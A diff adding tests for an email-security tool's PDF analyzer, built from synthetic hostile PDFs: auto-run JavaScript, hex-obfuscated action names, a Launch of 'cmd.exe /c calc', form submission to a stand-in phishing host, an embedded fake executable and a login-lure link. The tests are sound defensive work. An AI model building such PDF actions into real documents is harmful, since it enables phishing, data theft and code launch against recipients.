@@ -1,0 +1,79 @@
+"""PDF: OpenAction JavaScript, obfuscated names, Launch, embedded files, form submission, URIs to URL analysis."""
+
+from __future__ import annotations
+
+import zlib
+
+from mailmoat.analyzers.filetypes import FileTypeAnalyzer
+from mailmoat.analyzers.pdf import PdfAnalyzer
+from mailmoat.attach import pdf
+from mailmoat.config import Settings
+from mailmoat.parse.documents import extract_document_urls
+from tests.support import attachgen as g
+
+
+async def test_openaction_javascript_reaches_quarantine(settings: Settings) -> None:
+    findings = await g.run_analyzers(g.message([("statement.pdf", g.pdf_openaction_js("app.launchURL('x');"))]), settings, PdfAnalyzer)
+    found = g.by_symbol(findings)
+    assert "app.launchURL" in found["PDF_JAVASCRIPT"].evidence
+    assert "PDF_AUTO_ACTION" in found
+    assert sum(f.score for f in findings) >= settings.policy.thresholds.quarantine
+
+
+def test_hex_escaped_names_are_decoded() -> None:
+    doc = g.pdf_bytes([
+        b"<< /Type /Catalog /Pages 2 0 R /#4Fpen#41ction << /S /J#61vaScript /JS (this.print();) >> >>",
+        b"<< /Type /Pages /Kids [] /Count 0 >>",
+    ])
+    rep = pdf.inspect(doc)
+    assert rep.auto_js and rep.javascript == ["this.print();"]
+
+
+def test_launch_submit_and_compressed_javascript_stream() -> None:
+    js = zlib.compress(b"var x = util.printd('yyyy', new Date());")
+    doc = g.pdf_bytes([
+        b"<< /Type /Catalog /Pages 2 0 R /AA << /WC 4 0 R >> >>",
+        b"<< /Type /Pages /Kids [] /Count 0 >>",
+        b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>",
+        b"<< /S /JavaScript /JS 5 0 R >>",
+        b"<< /Filter /FlateDecode /Length " + str(len(js)).encode() + b" >>\nstream\n" + js + b"\nendstream",
+        b"<< /S /SubmitForm /F (https://collect.example-phish.test/pdf.php) >>",
+    ])
+    rep = pdf.inspect(doc)
+    assert rep.launch == ["cmd.exe"]
+    assert rep.auto_js
+    assert any("util.printd" in s for s in rep.javascript)
+    assert rep.submit == ["https://collect.example-phish.test/pdf.php"]
+
+
+async def test_embedded_file_is_extracted_and_scanned(settings: Settings) -> None:
+    payload = b"MZ" + b"\0" * 200
+    doc = g.pdf_bytes([
+        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a) 3 0 R] >> >> >>",
+        b"<< /Type /Pages /Kids [] /Count 0 >>",
+        b"<< /Type /Filespec /F (update.exe) /UF (update.exe) /EF << /F 4 0 R >> >>",
+        b"<< /Type /EmbeddedFile /Length " + str(len(payload)).encode() + b" >>\nstream\n" + payload + b"\nendstream",
+    ])
+    found = g.by_symbol(await g.run_analyzers(g.message([("a.pdf", doc)]), settings, PdfAnalyzer, FileTypeAnalyzer))
+    assert "update.exe" in found["PDF_EMBEDDED_FILE"].evidence
+    assert "a.pdf > update.exe" in found["ATTACH_BLOCKED_TYPE"].evidence
+
+
+async def test_link_in_object_stream_goes_to_url_analysis(settings: Settings) -> None:
+    msg = g.message([("voicemail.pdf", g.pdf_link("https://login.example-secure.test/verify"))])
+    extract_document_urls(msg)
+    pdf_urls = [u for u in msg.urls if u.source == "pdf"]
+    assert [(u.url, u.host, u.part_path) for u in pdf_urls] == [("https://login.example-secure.test/verify", "login.example-secure.test", "2")]
+    extract_document_urls(msg)  # idempotent
+    assert len([u for u in msg.urls if u.source == "pdf"]) == 1
+    found = g.by_symbol(await g.run_analyzers(msg, settings, PdfAnalyzer))
+    assert set(found) == {"PDF_LINK_LURE"}
+
+
+def test_hostile_pdf_never_raises() -> None:
+    for junk in (b"%PDF-1.7\n1 0 obj << /Filter /FlateDecode >>\nstream\n\xff\xfe\nendstream endobj",
+                 b"%PDF-1.4 (((((((( 1 0 obj <</JS (\\", b"%PDF-" + b"9 0 obj " * 1000):
+        pdf.inspect(junk)
+    msg = g.message([("x.pdf", b"%PDF-1.4 garbage")])
+    extract_document_urls(msg)
+    assert msg.urls == []
